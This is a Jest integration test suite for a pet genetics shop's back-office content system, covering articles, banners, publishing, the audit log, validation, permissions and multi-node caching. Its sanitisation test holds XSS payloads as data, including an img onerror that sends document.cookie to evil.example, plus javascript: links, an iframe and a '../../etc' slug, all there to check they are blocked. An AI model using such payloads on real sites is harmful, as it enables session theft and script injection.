import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { sql } from 'drizzle-orm';
import Fastify from 'fastify';
import supertest from 'supertest';
import { ChangeChannel } from '../../server/db/change-channel.js';
import { ContentService } from '../../server/modules/content/content.service.js';
import { followChanges, PageCache } from '../../server/ssr/page-cache.js';
import { registerSeoFiles } from '../../server/ssr/seo-files.js';
import { CONTENT_MSG } from '../../shared/content/content-rules.js';
import { MSG } from '../../shared/validation-messages.js';
import { browser, createUser, signIn } from './support/auth.js';
import { createSecondNode, createTestApp, type TestApp } from './support/test-app.js';

/** Issue 19 §4: news, blogs and banners edited in the back office; the public site shows only what is live. */
let t: TestApp;
let admin: { id: number; cookie: string };
let breeder: string;
let vet: string;
const b = () => browser(t);
const day = (offset: number) => new Date(Date.now() + offset * 86_400_000).toISOString().slice(0, 10);

const ARTICLE = {
  slug: 'dm-what-at-risk-means',
  kind: 'blog',
  title: 'What “at risk” means for degenerative myelopathy',
  description: 'Two copies of the DM variant do not mean a dog will fall ill. What the result tells you, and what it does not.',
  body: '## At risk is not affected\n\nMany **m/m** dogs never show signs.\n\n- Test before pairing\n- Ask your vet\n\n[Contact us](/contact-us)',
  publishOn: day(-1),
  storefronts: [] as string[],
};

async function audit(entity: string, entityId: string | number) {
  const res = await t.db.execute(
    sql`select actor_id, action, before, after from audit_log where entity = ${entity} and entity_id = ${String(entityId)} order by id`,
  );
  return res.rows as {
    actor_id: number;
    action: string;
    before: Record<string, unknown> | null;
    after: Record<string, unknown> | null;
  }[];
}

/** The shop's real sitemap handler over the app's content service, as server rendering registers it. */
async function sitemap(): Promise<string> {
  const fastify = Fastify();
  const content = t.app.get(ContentService);
  registerSeoFiles(fastify, 'http://shop.test', undefined, { paths: () => content.sitemapPaths() });
  const res = await fastify.inject({ method: 'GET', url: '/sitemap.xml' });
  await fastify.close();
  expect(res.statusCode).toBe(200);
  return res.body;
}

const inSitemap = async (slug: string) => (await sitemap()).includes(`<loc>http://shop.test/news-and-blogs/${slug}</loc>`);

async function create(overrides: Partial<typeof ARTICLE> = {}) {
  return (
    await b()
      .post('/api/admin/content/articles', { ...ARTICLE, ...overrides }, admin.cookie)
      .expect(201)
  ).body;
}

beforeAll(async () => {
  t = await createTestApp();
  const adminUser = await createUser(t, { userType: 'owner', isAdmin: true });
  admin = { id: adminUser.id, cookie: await signIn(t, adminUser.email, adminUser.password) };
  const breederUser = await createUser(t, { userType: 'breeder' });
  breeder = await signIn(t, breederUser.email, breederUser.password);
  const vetUser = await createUser(t, { userType: 'vet' });
  vet = await signIn(t, vetUser.email, vetUser.password);
}, 120_000);

afterAll(async () => {
  await t?.close();
});

describe('the content moved out of the code', () => {
  it('lists the same articles as before, newest first, with the merger announcement at its address', async () => {
    const list = (await b().get('/api/content/articles').expect(200)).body.results;
    expect(list.map((a: { slug: string }) => a.slug)).toEqual([
      'merger-announcement',
      'new-feline-tests-2026',
      'home-pregnancy-test',
      'carrier-is-not-a-dirty-word',
      'reading-a-breed-profile',
    ]);
    expect((await b().get('/api/content/articles?type=blog').expect(200)).body.results).toHaveLength(2);
    const merger = (await b().get('/api/content/articles/merger-announcement').expect(200)).body;
    expect(merger).toMatchObject({
      title: 'Pet DNA Lab and PawPrint Genomics join forces',
      kind: 'news',
      publishOn: '2026-10-01',
    });
    expect(merger.bodyHtml).toContain('<p>We are delighted to announce that Pet DNA Lab and PawPrint Genomics have merged');
    expect(merger.bodyHtml.match(/<p>/g)).toHaveLength(4);
  });

  it('shows both banners in every storefront', async () => {
    const banners = (await b().get('/api/content/banners', 'country=NZ').expect(200)).body;
    expect(banners.announcement).toMatchObject({
      text: 'Pet DNA Lab and PawPrint Genomics are now one laboratory.',
      linkLabel: 'Read what it means for you',
      linkUrl: '/news-and-blogs/merger-announcement',
    });
    expect(banners.research).toMatchObject({
      title: 'Help us map the genetics of epilepsy in dogs',
      linkUrl: '/research-innovation',
    });
  });

  it('puts every article in the sitemap', async () => {
    expect(await inSitemap('merger-announcement')).toBe(true);
    expect(await inSitemap('reading-a-breed-profile')).toBe(true);
  });
});

describe('an article from draft to published', () => {
  it('is a draft nobody sees until published, then on the news page, its page and the sitemap; audited at each step', async () => {
    const created = await create();
    expect(created).toMatchObject({ slug: ARTICLE.slug, status: 'draft', live: false, storefronts: [] });
    expect((await b().get('/api/content/articles').expect(200)).body.results.map((a: { slug: string }) => a.slug)).not.toContain(
      ARTICLE.slug,
    );
    await b().get(`/api/content/articles/${ARTICLE.slug}`).expect(404);
    expect(await inSitemap(ARTICLE.slug)).toBe(false);

    const published = (await b().post(`/api/admin/content/articles/${created.id}/publish`, {}, admin.cookie).expect(200)).body;
    expect(published).toMatchObject({ status: 'published', live: true });
    // A double click publishes once.
    await b().post(`/api/admin/content/articles/${created.id}/publish`, {}, admin.cookie).expect(200);
    const page = (await b().get(`/api/content/articles/${ARTICLE.slug}`).expect(200)).body;
    expect(page.bodyHtml).toContain('<h2>At risk is not affected</h2>');
    expect(page.bodyHtml).toContain('<strong>m/m</strong>');
    expect(page.bodyHtml).toContain('<a href="/contact-us">Contact us</a>');
    expect((await b().get('/api/content/articles').expect(200)).body.results[0].slug).toBe(ARTICLE.slug);
    expect(await inSitemap(ARTICLE.slug)).toBe(true);

    await b().post(`/api/admin/content/articles/${created.id}/unpublish`, {}, admin.cookie).expect(200);
    await b().get(`/api/content/articles/${ARTICLE.slug}`).expect(404);
    expect(await inSitemap(ARTICLE.slug)).toBe(false);

    const rows = await audit('article', created.id);
    expect(rows.map((row) => row.action)).toEqual(['create', 'publish', 'unpublish']);
    expect(rows.every((row) => row.actor_id === admin.id)).toBe(true);
    expect(rows[0]?.after).toMatchObject({ slug: ARTICLE.slug, status: 'draft', body: ARTICLE.body });
    expect(rows[1]).toMatchObject({ before: { status: 'draft' }, after: { status: 'published' } });
  });

  it('waits for its publish date: a published article dated tomorrow is nowhere yet', async () => {
    const created = await create({ slug: 'scheduled-for-tomorrow', publishOn: day(1) });
    const published = (await b().post(`/api/admin/content/articles/${created.id}/publish`, {}, admin.cookie).expect(200)).body;
    expect(published).toMatchObject({ status: 'published', live: false });
    await b().get('/api/content/articles/scheduled-for-tomorrow').expect(404);
    expect((await b().get('/api/content/articles').expect(200)).body.results.map((a: { slug: string }) => a.slug)).not.toContain(
      'scheduled-for-tomorrow',
    );
    expect(await inSitemap('scheduled-for-tomorrow')).toBe(false);
  });

  it('is listed only in its storefronts, and its link still opens elsewhere', async () => {
    const created = await create({ slug: 'australia-only-news', storefronts: ['AU', 'NZ'] });
    await b().post(`/api/admin/content/articles/${created.id}/publish`, {}, admin.cookie).expect(200);
    const slugsIn = async (country: string) =>
      (await b().get('/api/content/articles', `country=${country}`).expect(200)).body.results.map(
        (a: { slug: string }) => a.slug,
      );
    expect(await slugsIn('AU')).toContain('australia-only-news');
    expect(await slugsIn('GB')).not.toContain('australia-only-news');
    await b().get('/api/content/articles/australia-only-news', 'country=GB').expect(200);
  });

  it('saves an edit with its before and after in the audit log', async () => {
    const created = await create({ slug: 'edited-article' });
    const updated = (
      await b()
        .put(
          `/api/admin/content/articles/${created.id}`,
          { ...ARTICLE, slug: 'edited-article-2', title: 'A better title' },
          admin.cookie,
        )
        .expect(200)
    ).body;
    expect(updated).toMatchObject({ slug: 'edited-article-2', title: 'A better title' });
    const [, edit] = await audit('article', created.id);
    expect(edit).toMatchObject({
      action: 'update',
      before: { slug: 'edited-article', title: ARTICLE.title },
      after: { slug: 'edited-article-2', title: 'A better title' },
    });
  });

  it('deletes a draft, never a published article', async () => {
    const draft = await create({ slug: 'draft-to-delete' });
    await b().delete(`/api/admin/content/articles/${draft.id}`, admin.cookie).expect(204);
    await b().get(`/api/admin/content/articles/${draft.id}`, admin.cookie).expect(404);
    expect((await audit('article', draft.id)).at(-1)).toMatchObject({ action: 'delete', after: null });

    const merger = (await b().get('/api/admin/content/articles', admin.cookie).expect(200)).body.results.find(
      (a: { slug: string }) => a.slug === 'merger-announcement',
    );
    const refused = await b().delete(`/api/admin/content/articles/${merger.id}`, admin.cookie).expect(409);
    expect(refused.body.message).toBe(CONTENT_MSG.publishedNotDeleted);
    await b().get('/api/content/articles/merger-announcement').expect(200);
  });
});

describe('validation (428 in the spec’s shape)', () => {
  it('names every missing field and writes nothing', async () => {
    const before = (await b().get('/api/admin/content/articles', admin.cookie).expect(200)).body.results.length;
    const res = await b().post('/api/admin/content/articles', {}, admin.cookie).expect(428);
    expect(res.body).toEqual({
      errors: {
        slug: MSG.required,
        kind: CONTENT_MSG.kind,
        title: MSG.required,
        description: MSG.required,
        body: MSG.required,
        publishOn: CONTENT_MSG.date,
      },
    });
    expect((await b().get('/api/admin/content/articles', admin.cookie).expect(200)).body.results).toHaveLength(before);
  });

  it('refuses a slug that is not lower-case words and dashes, a taken slug, a date that does not exist and unknown storefronts', async () => {
    for (const slug of ['Has Spaces', '../../etc', 'UPPER', 'a--b', 'ab']) {
      const res = await b()
        .post('/api/admin/content/articles', { ...ARTICLE, slug }, admin.cookie)
        .expect(428);
      expect(res.body.errors).toEqual({ slug: CONTENT_MSG.slug });
    }
    const taken = await b()
      .post('/api/admin/content/articles', { ...ARTICLE, slug: 'merger-announcement' }, admin.cookie)
      .expect(428);
    expect(taken.body).toEqual({ errors: { slug: CONTENT_MSG.slugTaken } });
    const other = await create({ slug: 'will-clash' });
    const clash = await b()
      .put(`/api/admin/content/articles/${other.id}`, { ...ARTICLE, slug: 'merger-announcement' }, admin.cookie)
      .expect(428);
    expect(clash.body).toEqual({ errors: { slug: CONTENT_MSG.slugTaken } });
    const badDay = await b().post(
      '/api/admin/content/articles',
      { ...ARTICLE, slug: 'bad-day', publishOn: '2026-02-30' },
      admin.cookie,
    );
    expect(badDay.status).toBe(428);
    expect(badDay.body).toEqual({ errors: { publishOn: CONTENT_MSG.date } });
    const storefronts = await b()
      .post('/api/admin/content/articles', { ...ARTICLE, slug: 'bad-storefront', storefronts: ['XX'] }, admin.cookie)
      .expect(428);
    expect(storefronts.body).toEqual({ errors: { storefronts: CONTENT_MSG.storefronts } });
  });

  it('refuses a banner link a browser would run and an end before the start', async () => {
    const res = await b()
      .put(
        '/api/admin/content/banners/research',
        { text: 'x', linkLabel: 'Go', linkUrl: 'javascript:alert(1)', startsOn: day(5), endsOn: day(1) },
        admin.cookie,
      )
      .expect(428);
    expect(res.body).toEqual({ errors: { linkUrl: CONTENT_MSG.link, endsOn: CONTENT_MSG.endsBeforeStart } });
    const empty = await b().put('/api/admin/content/banners/research', {}, admin.cookie).expect(428);
    expect(empty.body.errors).toMatchObject({ text: MSG.required, linkLabel: MSG.required, linkUrl: MSG.required });
  });
});

describe('a malicious body', () => {
  it('is shown as text: no script, event handler or script link reaches the page', async () => {
    const body = [
      '<script>document.cookie</script>',
      '<img src=x onerror="fetch(\'//evil.example/\'+document.cookie)">',
      '[win a puppy](javascript:alert(1))',
      '<a href="javascript:alert(2)">click</a>',
      '<iframe src="//evil.example"></iframe>',
      '[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
    ].join('\n\n');
    const created = await create({ slug: 'malicious-body', body });
    await b().post(`/api/admin/content/articles/${created.id}/publish`, {}, admin.cookie).expect(200);
    const html: string = (await b().get('/api/content/articles/malicious-body').expect(200)).body.bodyHtml;
    expect(html).not.toMatch(/<script|<img|<iframe|<a href="javascript|href="data:/i);
    expect(html).toContain('&lt;script&gt;document.cookie&lt;/script&gt;');
    expect(html).toContain('&lt;iframe');
  });
});

describe('banners', () => {
  it('edits a banner: its storefronts and days decide where and when it shows; audited', async () => {
    const saved = (
      await b()
        .put(
          '/api/admin/content/banners/announcement',
          {
            title: '',
            text: 'Our laboratory closes from 24 to 26 December.',
            linkLabel: 'Opening hours',
            linkUrl: '/contact-us',
            storefronts: ['GB', 'GB'],
            startsOn: day(-1),
            endsOn: day(3),
          },
          admin.cookie,
        )
        .expect(200)
    ).body;
    expect(saved).toMatchObject({ title: null, storefronts: ['GB'], active: true });
    expect((await b().get('/api/content/banners', 'country=GB').expect(200)).body.announcement).toEqual({
      placement: 'announcement',
      title: null,
      text: 'Our laboratory closes from 24 to 26 December.',
      linkLabel: 'Opening hours',
      linkUrl: '/contact-us',
    });
    expect((await b().get('/api/content/banners', 'country=AU').expect(200)).body.announcement).toBeNull();

    await b()
      .put(
        '/api/admin/content/banners/announcement',
        { text: 'Later', linkLabel: 'More', linkUrl: 'https://example.org/more', startsOn: day(2), endsOn: null },
        admin.cookie,
      )
      .expect(200);
    expect((await b().get('/api/content/banners', 'country=GB').expect(200)).body.announcement).toBeNull();

    const rows = await audit('banner', 'announcement');
    expect(rows).toHaveLength(2);
    expect(rows[0]).toMatchObject({
      actor_id: admin.id,
      action: 'update',
      before: { text: 'Pet DNA Lab and PawPrint Genomics are now one laboratory.' },
      after: { text: 'Our laboratory closes from 24 to 26 December.', storefronts: ['GB'] },
    });
    await b().put('/api/admin/content/banners/sidebar', { text: 'x', linkLabel: 'x', linkUrl: '/' }, admin.cookie).expect(404);
  });
});

describe('who may edit', () => {
  it('refuses guests (401) and every non-admin (403), and changes nothing', async () => {
    const article = (await b().get('/api/admin/content/articles', admin.cookie).expect(200)).body.results[0];
    const calls = [
      (cookie?: string) => b().get('/api/admin/content/articles', cookie),
      (cookie?: string) => b().post('/api/admin/content/articles', { ...ARTICLE, slug: 'sneaky' }, cookie),
      (cookie?: string) => b().put(`/api/admin/content/articles/${article.id}`, { ...ARTICLE, slug: 'sneaky' }, cookie),
      (cookie?: string) => b().post(`/api/admin/content/articles/${article.id}/unpublish`, {}, cookie),
      (cookie?: string) => b().delete(`/api/admin/content/articles/${article.id}`, cookie),
      (cookie?: string) => b().get('/api/admin/content/banners', cookie),
      (cookie?: string) => b().put('/api/admin/content/banners/research', { text: 'x', linkLabel: 'x', linkUrl: '/' }, cookie),
    ];
    const auditRows = async () => Number((await t.db.execute(sql`select count(*)::int as n from audit_log`)).rows[0]?.n);
    const before = await auditRows();
    for (const call of calls) {
      await call().expect(401);
      await call(breeder).expect(403);
      await call(vet).expect(403);
    }
    expect(await auditRows()).toBe(before);
    expect((await b().get(`/api/admin/content/articles/${article.id}`, admin.cookie).expect(200)).body).toMatchObject({
      slug: article.slug,
      status: article.status,
    });
  });
});

describe('two nodes on one database', () => {
  let other: Awaited<ReturnType<typeof createSecondNode>>;

  beforeAll(async () => {
    other = await createSecondNode(t);
  }, 120_000);

  afterAll(async () => {
    await other?.close();
  });

  /** Polls `read` until it gives `wanted`, for at most 5 s: a notification arrives in the other node's own time. */
  async function eventually<T>(read: () => Promise<T> | T, wanted: T): Promise<T> {
    const deadline = Date.now() + 5_000;
    let value = await read();
    while (value !== wanted && Date.now() < deadline) {
      await new Promise((resolve) => setImmediate(resolve));
      value = await read();
    }
    return value;
  }

  const BANNER = { title: '', linkLabel: 'Opening hours', linkUrl: '/contact-us', storefronts: [], startsOn: null, endsOn: null };
  const researchOn = async (http: ReturnType<typeof supertest>) =>
    ((await http.get('/api/content/banners').set('cookie', 'country=GB').expect(200)).body.research?.text ?? null) as
      | string
      | null;

  it('serves the banners from memory, and a banner saved on one node shows on both without waiting', async () => {
    const before = await researchOn(other.http);
    await b()
      .put('/api/admin/content/banners/research', { ...BANNER, text: 'Help our canine epilepsy study.' }, admin.cookie)
      .expect(200);
    // The node that saved shows it on its very next page; the other, which kept `before`, once the notification arrives.
    expect(await researchOn(t.http)).toBe('Help our canine epilepsy study.');
    expect(before).not.toBe('Help our canine epilepsy study.');
    expect(await eventually(() => researchOn(other.http), 'Help our canine epilepsy study.')).toBe(
      'Help our canine epilepsy study.',
    );
    // A write that bypasses the back office (and its announcement) is not seen: pages do not read banners from the database.
    await t.db.execute(sql`UPDATE banners SET text = 'Written behind the shop' WHERE placement = 'research'`);
    expect(await researchOn(other.http)).toBe('Help our canine epilepsy study.');

    await b()
      .put('/api/admin/content/banners/research', { ...BANNER, text: 'Join our feline heart study.' }, admin.cookie)
      .expect(200);
    expect(await researchOn(t.http)).toBe('Join our feline heart study.');
    expect(await eventually(() => researchOn(other.http), 'Join our feline heart study.')).toBe('Join our feline heart study.');
  });

  it("an article edited on one node drops the other node's guest pages at once", async () => {
    const pages = new PageCache(60_000);
    const stop = followChanges(other.app.get(ChangeChannel), pages);
    try {
      const created = await create({ slug: 'two-nodes-article', title: 'Seen on every node' });
      // The other node renders the news page before the article is published, and keeps it for a minute.
      await eventually(() => pages.generation > 0, true);
      const page = { status: 200, html: '<h1>News</h1>', nonce: 'n', sharedWithGuests: true };
      pages.set('/news-and-blogs', page);
      expect(pages.get('/news-and-blogs')).toBe(page);
      await b().post(`/api/admin/content/articles/${created.id}/publish`, {}, admin.cookie).expect(200);
      expect(await eventually(() => pages.get('/news-and-blogs'), undefined)).toBeUndefined();
      expect((await other.http.get('/api/content/articles/two-nodes-article').expect(200)).body.title).toBe('Seen on every node');
    } finally {
      stop();
    }
  });
});
